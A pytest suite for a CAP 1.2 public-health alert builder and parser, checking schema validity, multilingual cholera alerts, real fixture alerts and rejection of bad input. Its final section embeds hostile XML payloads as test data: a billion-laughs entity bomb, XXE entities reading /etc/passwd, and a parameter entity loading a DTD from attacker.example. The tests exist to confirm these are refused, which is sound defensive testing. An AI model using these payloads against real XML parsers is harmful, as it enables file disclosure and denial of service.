"""CAP 1.2: every built alert is schema-valid, real alerts parse, hostile XML is refused."""

from __future__ import annotations

import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from epibridge.notifications.cap import (
    GEOCODE_ISO3166_1,
    GEOCODE_ISO3166_2,
    Area,
    CapMessage,
    CapValidationError,
    Category,
    Certainty,
    Circle,
    Info,
    MsgType,
    Reference,
    ResponseType,
    Scope,
    Severity,
    Status,
    Urgency,
    ValuePair,
    build_alert,
    is_actionable,
    iso3166_geocode,
    parse_alert,
    severity_urgency,
    status_for,
    validate,
)
from epibridge.notifications.risk import RiskLevel

FIXTURES = Path(__file__).parent / "fixtures" / "cap"
EXAMPLES = sorted(p for p in FIXTURES.iterdir() if p.suffix in {".xml", ".cap"})
SENT = datetime(2024, 5, 21, 10, 0, tzinfo=UTC)
ALMATY = timezone(timedelta(hours=5))

KZ_POLYGON = ((43.1, 76.7), (43.4, 76.7), (43.4, 77.1), (43.1, 77.1), (43.1, 76.7))


def info(language: str = "en", **kw: object) -> Info:
    base: dict[str, object] = {
        "language": language,
        "event": "Cholera outbreak",
        "urgency": Urgency.EXPECTED,
        "severity": Severity.SEVERE,
        "certainty": Certainty.OBSERVED,
        "response_types": (ResponseType.MONITOR,),
        "headline": "Cholera outbreak in Almaty",
        "description": "Twelve laboratory-confirmed cases since 14 May.",
        "instruction": "Boil drinking water.",
        "web": "https://epibridge.example.org/events/42",
        "parameters": (ValuePair("ICD-10", "A00"), ValuePair("cases", "12")),
        "areas": (
            Area(
                "Almaty, Kazakhstan",
                geocodes=(
                    ValuePair(GEOCODE_ISO3166_1, "KZ"),
                    ValuePair(GEOCODE_ISO3166_2, "KZ-75"),
                ),
            ),
        ),
    }
    base.update(kw)
    return Info(**base)  # type: ignore[arg-type]


def message(**kw: object) -> CapMessage:
    base: dict[str, object] = {
        "identifier": "epibridge-KZ-2024-0042",
        "sender": "nfp@kz.epibridge.example.org",
        "sent": SENT,
        "status": Status.ACTUAL,
        "msg_type": MsgType.ALERT,
        "scope": Scope.PUBLIC,
        "infos": (info(),),
    }
    base.update(kw)
    return CapMessage(**base)  # type: ignore[arg-type]


PREVIOUS = Reference(
    "nfp@kz.epibridge.example.org", "epibridge-KZ-2024-0041", SENT - timedelta(days=1)
)

VARIANTS = {
    "one_language": message(),
    "three_languages": message(
        infos=(
            info("en"),
            info(
                "ru",
                event="Вспышка холеры",
                headline="Вспышка холеры в Алматы",
                description="Двенадцать лабораторно подтверждённых случаев с 14 мая.",
                instruction="Кипятите питьевую воду.",
            ),
            info(
                "zh",
                event="霍乱疫情",
                headline="阿拉木图霍乱疫情",
                description="自5月14日以来有12例实验室确诊病例。",
                instruction="饮用水请煮沸。",
            ),
        )
    ),
    "update": message(msg_type=MsgType.UPDATE, references=(PREVIOUS,)),
    "cancel": message(
        msg_type=MsgType.CANCEL,
        references=(PREVIOUS, replace(PREVIOUS, identifier="epibridge-KZ-2024-0040")),
        note="Entered in error",
        infos=(),
    ),
    "exercise": message(status=Status.EXERCISE, note="SCO joint exercise 2024"),
    "test": message(status=Status.TEST, infos=()),
    "shapes": message(
        sent=datetime(2024, 5, 21, 15, 0, tzinfo=ALMATY),
        infos=(
            info(
                effective=datetime(2024, 5, 21, 15, 0, tzinfo=ALMATY),
                expires=datetime(2024, 6, 21, 15, 0, tzinfo=ALMATY),
                areas=(
                    Area(
                        "Almaty oblast and border crossing",
                        polygons=(KZ_POLYGON,),
                        circles=(Circle(43.25, 76.95, 25.0), Circle(42.9, 74.6, 0.0)),
                        geocodes=(ValuePair(GEOCODE_ISO3166_2, "KZ-19"),),
                        altitude=500.0,
                        ceiling=3000.0,
                    ),
                ),
            ),
        ),
    ),
    "restricted": message(scope=Scope.RESTRICTED, restriction="SCO national focal points only"),
    "private": message(
        scope=Scope.PRIVATE,
        addresses=("nfp@cn.example.org", "Ministry of Health KZ"),
        incidents=("EVT-42", "joint response 2024"),
        codes=("profile:epibridge:1.0",),
    ),
}


# --- building -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_every_build_validates_and_round_trips(name: str) -> None:
    msg = VARIANTS[name]
    xml = build_alert(msg)
    validate(xml)
    assert xml.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert parse_alert(xml) == msg


def test_three_languages_keep_cyrillic_and_chinese() -> None:
    parsed = parse_alert(build_alert(VARIANTS["three_languages"]))
    assert [i.language for i in parsed.infos] == ["en", "ru", "zh"]
    assert parsed.infos[1].headline == "Вспышка холеры в Алматы"
    assert parsed.infos[2].event == "霍乱疫情"
    assert all(i.categories == (Category.HEALTH,) for i in parsed.infos)


def test_references_are_cap_triples() -> None:
    xml = build_alert(VARIANTS["cancel"]).decode()
    assert (
        "<references>nfp@kz.epibridge.example.org,epibridge-KZ-2024-0041,2024-05-20T10:00:00-00:00 "
        "nfp@kz.epibridge.example.org,epibridge-KZ-2024-0040,2024-05-20T10:00:00-00:00</references>"
    ) in xml


def test_references_accept_plain_triples() -> None:
    msg = message(
        msg_type="Update", references=[(PREVIOUS.sender, PREVIOUS.identifier, PREVIOUS.sent)]
    )
    assert msg.references == (PREVIOUS,)


def test_times_carry_offsets_and_utc_is_minus_zero() -> None:
    assert "<sent>2024-05-21T10:00:00-00:00</sent>" in build_alert(message()).decode()
    xml = build_alert(VARIANTS["shapes"]).decode()
    assert "<sent>2024-05-21T15:00:00+05:00</sent>" in xml
    west = message(sent=datetime(2024, 5, 21, 3, 0, tzinfo=timezone(timedelta(hours=-7))))
    assert "<sent>2024-05-21T03:00:00-07:00</sent>" in build_alert(west).decode()


def test_sub_seconds_are_dropped_and_naive_times_refused() -> None:
    msg = message(sent=SENT.replace(microsecond=123456))
    assert msg.sent == SENT
    with pytest.raises(ValueError, match="timezone-aware"):
        message(sent=datetime(2024, 5, 21, 10, 0))


def test_shapes_are_written_as_cap_text() -> None:
    xml = build_alert(VARIANTS["shapes"]).decode()
    assert "<polygon>43.1,76.7 43.4,76.7 43.4,77.1 43.1,77.1 43.1,76.7</polygon>" in xml
    assert "<circle>43.25,76.95 25.0</circle>" in xml
    assert "<valueName>ISO3166-2</valueName>" in xml


def test_addresses_with_spaces_are_quoted() -> None:
    xml = build_alert(VARIANTS["private"]).decode()
    assert '<addresses>nfp@cn.example.org "Ministry of Health KZ"</addresses>' in xml


def test_enum_strings_are_accepted() -> None:
    msg = message(status="Exercise", msg_type="Alert", scope="Public")
    assert msg.status is Status.EXERCISE
    with pytest.raises(ValueError):
        message(status="Real")


@pytest.mark.parametrize(
    ("kw", "expected"),
    [
        ({"msg_type": MsgType.UPDATE}, "msgType Update requires references"),
        ({"msg_type": MsgType.CANCEL, "infos": ()}, "msgType Cancel requires references"),
        ({"scope": Scope.RESTRICTED}, "scope Restricted requires a restriction"),
        ({"scope": Scope.PRIVATE}, "scope Private requires addresses"),
        ({"identifier": "has space"}, "/alert/identifier"),
        ({"sender": "a,b"}, "/alert/sender"),
        (
            {"infos": (info(areas=(Area("x", polygons=(KZ_POLYGON[:-1],)),)),)},
            "must be closed",
        ),
        (
            {"infos": (info(areas=(Area("x", polygons=(KZ_POLYGON[:2],)),)),)},
            "at least 4 points",
        ),
        ({"infos": (info(areas=(Area("x", circles=(Circle(91, 0, 1),)),)),)}, "circle[1]"),
        ({"infos": (info(categories=()),)}, "at least one category"),
    ],
)
def test_build_refuses_what_cap_forbids(kw: dict[str, object], expected: str) -> None:
    with pytest.raises(CapValidationError, match=expected.replace("[", r"\[").replace("]", r"\]")):
        build_alert(message(**kw))


def test_build_refuses_what_the_schema_forbids() -> None:
    with pytest.raises(CapValidationError, match="language"):
        build_alert(message(infos=(info(language="not a language tag"),)))


def test_build_refuses_control_characters() -> None:
    with pytest.raises(CapValidationError, match="not allowed in XML"):
        build_alert(message(note="bell\x07"))


# --- mapping helpers ------------------------------------------------------------------------


def test_risk_level_to_severity_and_urgency() -> None:
    assert severity_urgency(RiskLevel.LOW) == (Severity.MINOR, Urgency.FUTURE)
    assert severity_urgency("moderate") == (Severity.MODERATE, Urgency.FUTURE)
    assert severity_urgency("high") == (Severity.SEVERE, Urgency.EXPECTED)
    assert severity_urgency("very_high") == (Severity.EXTREME, Urgency.IMMEDIATE)
    with pytest.raises(ValueError, match="unknown risk level"):
        severity_urgency("extreme")


def test_status_mapping_keeps_drills_apart() -> None:
    assert status_for("actual") is Status.ACTUAL
    assert status_for("exercise") is Status.EXERCISE
    assert status_for("test") is Status.TEST
    assert status_for("draft") is Status.DRAFT
    assert status_for("system") is Status.SYSTEM
    assert is_actionable("Actual")
    assert not any(is_actionable(s) for s in Status if s is not Status.ACTUAL)
    with pytest.raises(ValueError, match="unknown event mode"):
        status_for("drill")


def test_iso3166_geocodes() -> None:
    assert iso3166_geocode("kz") == ValuePair("ISO3166-1", "KZ")
    assert iso3166_geocode("CN-XJ") == ValuePair("ISO3166-2", "CN-XJ")
    with pytest.raises(ValueError, match="ISO 3166-1"):
        iso3166_geocode("XX")
    with pytest.raises(ValueError, match="ISO 3166-2"):
        iso3166_geocode("KZ-XXX")


# --- real alerts ----------------------------------------------------------------------------


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.name)
def test_real_examples_validate_and_parse(path: Path) -> None:
    xml = path.read_bytes()
    validate(xml)
    alert = parse_alert(xml)
    assert alert.identifier and alert.sender and alert.infos
    # re-building what we parsed gives a valid alert with the same content
    assert parse_alert(build_alert(alert)) == alert


def test_example_fields() -> None:
    canada = parse_alert((FIXTURES / "canada.cap").read_bytes())
    assert canada.msg_type is MsgType.UPDATE
    assert [r.identifier for r in canada.references] == [
        "2.49.0.1.124.a3f342a4.2012",
        "2.49.0.1.124.60f31a3a.2012",
    ]
    assert canada.sent == datetime(2012, 5, 2, 23, 21, 4, tzinfo=UTC)
    assert [i.language for i in canada.infos] == ["en-CA", "fr-CA"]
    assert canada.restriction is None and canada.note is None
    assert len(canada.infos[0].areas[0].polygons[0]) == 17
    assert canada.infos[0].areas[0].geocodes[0] == ValuePair("layer:EC-MSC-SMC:1.0:CLC", "041420")

    quake = parse_alert((FIXTURES / "Oasis_EarthquakeReport.xml").read_bytes())
    assert quake.infos[0].language == "en-US"  # schema default, the element is absent
    assert quake.infos[0].areas[0].circles == (Circle(32.9525, -115.5527, 0.0),)
    assert ValuePair("Magnitude", "3.4 Ml") in quake.infos[0].parameters

    australia = parse_alert((FIXTURES / "australia.cap").read_bytes())
    assert australia.infos[0].categories == (Category.FIRE, Category.MET)
    assert australia.infos[0].resources[0].mime_type == "text/html"
    assert ValuePair("AllocatedResources", "") in australia.infos[0].parameters

    cancel = parse_alert((FIXTURES / "NWS_FireWeatherWatchCancel.xml").read_bytes())
    assert cancel.msg_type is MsgType.CANCEL
    assert cancel.references[0].sent == datetime(
        2026, 9, 11, 10, 27, tzinfo=timezone(timedelta(hours=-6))
    )


# --- invalid and hostile input --------------------------------------------------------------

VALID = (FIXTURES / "Oasis_EarthquakeReport.xml").read_bytes()


def test_malformed_xml() -> None:
    with pytest.raises(CapValidationError, match="malformed XML") as exc:
        parse_alert(VALID[:-20])
    assert exc.value.issues[0].line is not None


def test_wrong_namespace() -> None:
    xml = VALID.replace(
        b"urn:oasis:names:tc:emergency:cap:1.2", b"urn:oasis:names:tc:emergency:cap:1.1"
    )
    with pytest.raises(
        CapValidationError, match=r"root element is \{urn:oasis:names:tc:emergency:cap:1.1\}alert"
    ):
        validate(xml)


def test_no_namespace() -> None:
    with pytest.raises(CapValidationError, match="root element is alert"):
        parse_alert(b"<alert><identifier>x</identifier></alert>")


def test_missing_required_element_is_named() -> None:
    xml = VALID.replace(b"<sender>trinet@caltech.edu</sender>", b"")
    with pytest.raises(CapValidationError) as exc:
        validate(xml)
    issue = exc.value.issues[0]
    assert issue.reason == "Element 'sent': This element is not expected. Expected is ( sender )."
    assert issue.path == "/alert/sent"  # where the sender was expected
    assert issue.line == 7


def test_bad_value_names_line_and_path() -> None:
    xml = VALID.replace(b"<urgency>Past</urgency>", b"<urgency>Soon</urgency>")
    with pytest.raises(CapValidationError) as exc:
        parse_alert(xml)
    issue = exc.value.issues[0]
    assert (issue.line, issue.path) == (15, "/alert/info/urgency")
    assert "'Soon' is not an element of the set" in issue.reason
    assert "line 15, /alert/info/urgency" in str(exc.value)


def test_z_timezone_is_not_cap() -> None:
    xml = VALID.replace(b"2003-06-11T20:56:00-07:00</sent>", b"2003-06-11T20:56:00Z</sent>")
    with pytest.raises(CapValidationError, match="sent"):
        parse_alert(xml)


def test_bad_polygon_text_is_reported_with_its_line() -> None:
    xml = VALID.replace(b"<circle>32.9525,-115.5527 0</circle>", b"<circle>nowhere</circle>")
    with pytest.raises(CapValidationError, match="circle") as exc:
        parse_alert(xml)
    assert exc.value.issues[0].line == 44
    assert exc.value.issues[0].path == "/alert/info/area/circle"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE alert [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>&xxe;</identifier><sender>a@b</sender><sent>2024-05-21T10:00:00-00:00</sent>
  <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
</alert>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "file:///etc/passwd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>
"""


@pytest.mark.parametrize(
    "xml",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion_laughs", "xxe", "external_dtd", "parameter_entity"],
)
@pytest.mark.parametrize("func", [parse_alert, validate], ids=["parse", "validate"])
def test_entities_and_doctypes_are_refused(xml: bytes, func: object) -> None:
    with pytest.raises(CapValidationError, match="DOCTYPE declarations are not allowed") as exc:
        func(xml)  # type: ignore[operator]
    text = str(exc.value)
    assert "root:" not in text and "lollol" not in text
    assert len(text) < 500


def test_undeclared_entity_is_refused() -> None:
    xml = VALID.replace(b"TRI13970876.2</identifier>", b"&undeclared;</identifier>")
    with pytest.raises(CapValidationError, match="undeclared"):
        parse_alert(xml)


def test_size_limit() -> None:
    with pytest.raises(CapValidationError, match="larger than the limit of 1048576 bytes"):
        parse_alert(VALID + b" " * (1024 * 1024))
    with pytest.raises(CapValidationError, match="limit of 100 bytes"):
        validate(VALID, max_bytes=100)
    assert parse_alert(VALID, max_bytes=len(VALID)).identifier == "TRI13970876.2"


def test_empty_and_wrong_types() -> None:
    with pytest.raises(CapValidationError, match="empty"):
        parse_alert(b"  ")
    with pytest.raises(TypeError, match="bytes"):
        parse_alert(VALID.decode())  # type: ignore[arg-type]


def test_schema_is_loaded_lazily() -> None:
    path = str(FIXTURES / "canada.cap")
    code = (
        "import epibridge.notifications.cap as cap, epibridge.notifications.cap.schema as s;"
        "assert s._schema.cache_info().currsize == 0;"
        f"cap.validate(open({path!r}, 'rb').read());"
        "assert s._schema.cache_info().currsize == 1"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_doctype_in_utf16_is_refused() -> None:
    xml = XXE.decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>')
    with pytest.raises(CapValidationError, match="DOCTYPE declarations are not allowed"):
        parse_alert(xml.encode("utf-16"))


def test_utf16_alert_parses() -> None:
    xml = (FIXTURES / "canada.cap").read_text(encoding="utf-8")
    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert parse_alert(xml.encode("utf-16")).identifier == "2.49.0.1.124.6bddbc91.2012"


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["bomb", "xxe", "dtd"])
def test_lxml_backstop_resolves_nothing(xml: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """Were the DOCTYPE pre-scan bypassed, lxml would still resolve nothing and refuse it."""
    from epibridge.notifications.cap import schema

    monkeypatch.setattr(schema, "_refuse_doctype", lambda xml: None)
    with pytest.raises(CapValidationError) as exc:
        parse_alert(xml)
    assert "root:" not in str(exc.value)
    assert "DOCTYPE" in str(exc.value) or "amplification" in str(exc.value)
